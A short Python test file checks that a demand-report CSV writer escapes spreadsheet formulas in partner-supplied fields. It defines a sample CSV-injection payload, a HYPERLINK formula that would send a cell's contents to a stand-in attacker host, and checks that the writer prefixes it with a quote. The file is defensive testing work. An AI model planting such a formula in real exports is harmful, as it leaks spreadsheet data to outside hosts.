"""The demand CSV is opened in spreadsheets: partner text must not run as a formula."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

from orderport.reports.demand import DemandRow, write_demand_csv

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_sku_and_unit_are_neutralised(tmp_path: Path) -> None:
    rows = [
        DemandRow(PAYLOAD, "+EA", "2026-W07", date(2026, 2, 9), Decimal("12.50"), 2, 1),
        DemandRow("SKU-1", "EA", "2026-W07", date(2026, 2, 9), Decimal("3"), 1, 1),
    ]
    path = write_demand_csv(rows, tmp_path / "demand.csv")
    with path.open(newline="", encoding="utf-8") as stream:
        written = list(csv.DictReader(stream))
    assert written[0]["sku"] == "'" + PAYLOAD
    assert written[0]["uom"] == "'+EA"
    assert written[0]["quantity"] == "12.50"
    assert (written[1]["sku"], written[1]["uom"]) == ("SKU-1", "EA")
